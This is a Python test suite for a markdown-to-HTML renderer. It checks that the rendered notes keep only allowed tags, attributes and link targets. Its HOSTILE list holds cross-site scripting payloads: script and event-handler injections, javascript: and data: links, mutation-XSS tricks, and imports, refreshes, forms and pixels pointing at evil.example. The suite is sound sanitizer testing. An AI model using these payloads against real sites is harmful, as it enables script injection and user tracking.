"""Markdown of notes as HTML: what it looks like, and that nothing in it can act."""

import os
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kmkit.views.site.html import to_html, to_text

CASES = int(os.environ.get("KMKIT_CASES", "150"))
TARGETS = {"b.md": "../notes/b.html"}
PICTURES = {"fuel.png": "../files/x/fuel.png"}


def shown(text: str) -> str:
    return to_html(text, TARGETS.get, PICTURES.get)


class _Tags(HTMLParser):
    """Every tag with its attributes, and the text between them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def harmless(html: str) -> None:
    """Nothing in ``html`` acts, looks like the page's own, or asks anybody for anything."""
    for tag, attributes in _Tags(html).tags:
        assert tag in {
            "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del",
            "details", "dfn", "div", "dl", "dt", "em", "h3", "h4", "h5", "h6", "hr", "i", "img",
            "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span",
            "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead",
            "tr", "u", "ul", "var",
        }  # fmt: skip
        assert set(attributes) <= {
            "href", "rel", "src", "alt", "loading", "dir", "lang", "id", "class", "start",
            "colspan", "rowspan", "tabindex",
        }  # fmt: skip
        href = attributes.get("href") or ""
        assert href.startswith(("http:", "https:", "mailto:", "#n-", "../notes/")) or not href
        assert (attributes.get("src") or "../files/").startswith("../files/")
        assert (attributes.get("id") or "n-").startswith("n-")
        assert (attributes.get("class") or "table") in {
            "table", "picture", "c", "r", "l", "footnote-definition", "footnote-reference",
            "footnote-definition-label", "",
        }  # fmt: skip


HOSTILE = (
    "<script>alert(1)</script>",
    "<b onclick=alert(1)>x</b>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<base href=//evil.example/>",
    "<object data=x></object><embed src=x>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](file:///etc/passwd)",
    "[x](//evil.example/a) [y](\\\\evil\\share)",
    "![x](http://evil.example/pixel.png)",
    "![x><script>alert(1)</script>](http://evil.example/pixel.png)",
    "![x><script>alert(1)</script>](fuel.png)",
    "<div id=search class=top style='position:fixed'>x</div>",
    "<a name=main id=main>x</a>",
    "]]> <![CDATA[ <script>alert(1)</script> ]]>",
    "<!-- <script>alert(1)</script> -->",
    "<!--> <script>alert(1)</script> -->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "```html\n<script>alert(1)</script>\n```",
    "\u202e[x](http://a.example)\u2066",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_would_act_does_not(text: str) -> None:
    html = shown(text)
    harmless(html)
    assert "\u202e" not in html


@settings(max_examples=CASES, deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, "<", ">", '"', "'", "\n\n", "`", "(", "![", "<p", " a "])
                | st.text(max_size=6), max_size=12))  # fmt: skip
def test_no_mixture_of_it_acts_either(pieces: list[str]) -> None:
    harmless(shown("".join(pieces)))


def test_links_lead_to_notes_and_out_and_else_are_text() -> None:
    html = shown("[ours](b.md) [theirs](secret.md) [out](https://example.org/a?b=1&c=2)")
    assert '<a href="../notes/b.html" rel="noopener noreferrer">ours</a>' in html
    assert " theirs " in html
    assert 'href="https://example.org/a?b=1&amp;c=2"' in html
    assert html.count("<a ") == 2


def test_pictures_are_ours_or_their_description() -> None:
    html = shown("![The pump](fuel.png) ![A map](map.png)")
    assert '<img loading="lazy" src="../files/x/fuel.png" alt="The pump">' in html
    assert '<span class="picture">A map</span>' in html
    assert html.count("<img") == 1


def test_headings_step_down_from_the_third_level() -> None:
    html = shown("# One\n\n#### Two\n\n## Three\n\n###### Four\n")
    assert [tag for tag, _ in _Tags(html).tags] == ["h3", "h4", "h4", "h5"]


def test_tables_tasks_and_footnotes() -> None:
    html = shown(
        "- [x] done\n- [ ] open\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\nx[^1]\n\n[^1]: why\n"
    )
    assert "☑" in html
    assert "☐" in html
    assert "<input" not in html
    assert '<div class="table" tabindex="0"><table>' in html
    assert '<td class="r" dir="auto">2</td>' in html
    assert '<a href="#n-1"' in html
    assert 'id="n-1"' in html
    assert "style=" not in html


def test_comments_are_dropped_and_code_keeps_them() -> None:
    html = shown("One <!-- guidance --> two\n\n<!-- more\nguidance -->\n\n`<!-- kept -->`")
    assert "guidance" not in html
    assert "&lt;!-- kept --&gt;" in html


def test_a_table_in_another_language_is_framed_like_any_other() -> None:
    page = shown('<table lang="fr"><tr><td>x</td></tr></table>')
    assert page.startswith('<div class="table" tabindex="0"><table lang="fr">')
    assert page.count("</div>") == 1


def test_each_paragraph_says_in_which_direction_it_is_read() -> None:
    assert '<p dir="auto">اطلبوا الوقود مبكرا</p>' in shown("اطلبوا الوقود مبكرا")
    assert '<pre dir="ltr" tabindex="0">' in shown("```\nx = 1\n```")


@pytest.mark.parametrize(
    "text",
    [
        ">" * 100_000 + " x",
        "<div>" * 100_000,
        "<b><p>" * 20_000,
        "*a " * 50_000,
        "[" * 50_000,
        "[a](b.md) " * 100_000,
        "x" * 5_000_000,
        "|a" * 3_000 + "|\n" + "|-" * 3_000 + "|\n",
    ],
    ids=["quotes", "divs", "open", "stars", "brackets", "links", "long", "columns"],
)
def test_what_is_monstrous_is_shown_all_the_same(text: str) -> None:
    html = shown(text)
    assert len(html) >= len(text) // 4
    assert "<script" not in html


def test_the_text_of_html_is_what_readers_read() -> None:
    assert to_text("<p>One &amp; <b>two</b></p>\n<ul><li>three</li></ul>") == "One & two three"
